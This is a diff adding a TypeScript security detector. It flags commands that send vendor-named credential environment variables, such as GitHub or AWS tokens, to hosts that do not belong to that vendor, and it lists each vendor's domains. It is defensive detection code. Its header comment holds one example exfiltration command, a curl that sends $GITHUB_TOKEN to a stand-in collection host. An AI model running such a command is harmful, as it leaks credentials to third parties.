@@ -1,0 +1,56 @@
+// A vendor's token from the environment sent to a host that is not the vendor's: `curl -H "Authorization:
+// Bearer $GITHUB_TOKEN" https://collect.example`. The variable's name says where the token belongs; a
+// command line that names it next to another destination is sending it away (T1552.001 then T1048). Tokens
+// whose name says nothing of their service (API_KEY, MY_TOKEN) are not judged: their home is unknown.
+import type { Detector, Finding } from '../detector.js';
+import { isAllowedHost, isLocalHost } from '../command/egress.js';
+
+// `selfHosted`: a host name that says it is the vendor's product run by the organisation (github.corp.example).
+interface Vendor { label: string; vars: RegExp; hosts: readonly string[]; selfHosted?: RegExp }
+
+// Names that hold a credential, and each vendor's prefix and domains (as isAllowedHost reads them).
+const SECRET_NAME = /(TOKEN|KEY|SECRET|PASSWORD|PASSWD|PAT|AUTH)/;
+const VENDORS: readonly Vendor[] = [
+  { label: 'GitHub', vars: /^(GITHUB|GH)_/, hosts: ['github.com', '*.github.com', '*.githubusercontent.com', 'ghcr.io'], selfHosted: /(^|\.)(github|ghe)\./ },
+  { label: 'GitLab', vars: /^(GITLAB|GL|CI_JOB)_/, hosts: ['gitlab.com', '*.gitlab.com'], selfHosted: /(^|\.)gitlab\./ },
+  { label: 'OpenAI', vars: /^OPENAI_/, hosts: ['openai.com', '*.openai.com', '*.openai.azure.com'] },
+  { label: 'Anthropic', vars: /^(ANTHROPIC|CLAUDE)_/, hosts: ['anthropic.com', '*.anthropic.com'] },
+  { label: 'npm', vars: /^(NPM|NODE_AUTH)_/, hosts: ['registry.npmjs.org', '*.npmjs.org', 'npm.pkg.github.com', 'registry.yarnpkg.com'] },
+  { label: 'Hugging Face', vars: /^(HF|HUGGING_?FACE(_HUB)?)_/, hosts: ['huggingface.co', '*.huggingface.co', '*.hf.co'] },
+  { label: 'AWS', vars: /^AWS_/, hosts: ['amazonaws.com', '*.amazonaws.com', '*.aws.amazon.com'] },
+  { label: 'Google Cloud', vars: /^(GOOGLE|GCP|GCLOUD|GEMINI)_/, hosts: ['*.googleapis.com', '*.google.com'] },
+  { label: 'Slack', vars: /^SLACK_/, hosts: ['slack.com', '*.slack.com'] },
+  { label: 'Stripe', vars: /^STRIPE_/, hosts: ['stripe.com', '*.stripe.com'] },
+  { label: 'Docker Hub', vars: /^(DOCKER|DOCKERHUB)_/, hosts: ['docker.io', '*.docker.io', '*.docker.com'] },
+  { label: 'Cloudflare', vars: /^(CLOUDFLARE|CF)_/, hosts: ['cloudflare.com', '*.cloudflare.com'] },
+  { label: 'PyPI', vars: /^(PYPI|TWINE)_/, hosts: ['pypi.org', '*.pypi.org'] },
+  { label: 'Sentry', vars: /^SENTRY_/, hosts: ['sentry.io', '*.sentry.io'], selfHosted: /(^|\.)sentry\./ },
+  { label: 'Datadog', vars: /^(DATADOG|DD)_/, hosts: ['*.datadoghq.com', '*.datadoghq.eu', '*.ddog-gov.com'] },
+];
+// `$NAME` in the shell; in inline code, os.environ['NAME'], os.getenv("NAME"), process.env.NAME, ENV['NAME'], $ENV{NAME}.
+const VAR_REF = /\$\{?([A-Z][A-Z0-9_]*)\}?|(?:os\.environ(?:\.get\(|\[)|os\.getenv\(|process\.env(?:\.|\[)|\bENV\[|\$ENV\{|\bgetenv\()\s*['"]?([A-Z][A-Z0-9_]*)/g;
+
+export const tokenEgress: Detector = {
+  name: 'token-egress',
+  judges: 'intent',
+  evaluate({ event, facts, ctx }) {
+    const line = event.command;
+    if (line === undefined || facts.egress.length === 0) return [];
+    const findings: Finding[] = [];
+    for (const [, shellVar, codeVar] of line.matchAll(VAR_REF)) {
+      const name = shellVar ?? codeVar!;
+      if (!SECRET_NAME.test(name)) continue;
+      const vendor = VENDORS.find((v) => v.vars.test(name));
+      if (vendor === undefined) continue;
+      const away = facts.egress.find((e) => !isLocalHost(e.host) && !isAllowedHost(e.host, ctx.egressAllow) && !isAllowedHost(e.host, vendor.hosts) && !vendor.selfHosted?.test(e.host));
+      if (away === undefined || findings.some((f) => f.key === `${name}->${away.host}`)) continue;
+      findings.push({
+        rule: 'token-sent-elsewhere', severity: 'high', tactic: 'exfiltration', technique: 'T1048',
+        title: `${vendor.label} token sent to ${away.host}`,
+        reason: `The command sends $${name}, a ${vendor.label} token, with ${away.tool} to ${away.host}, which is not ${vendor.label}'s and not allowlisted.`,
+        evidence: [event.id], key: `${name}->${away.host}`, block: true,
+      });
+    }
+    return findings;
+  },
+};
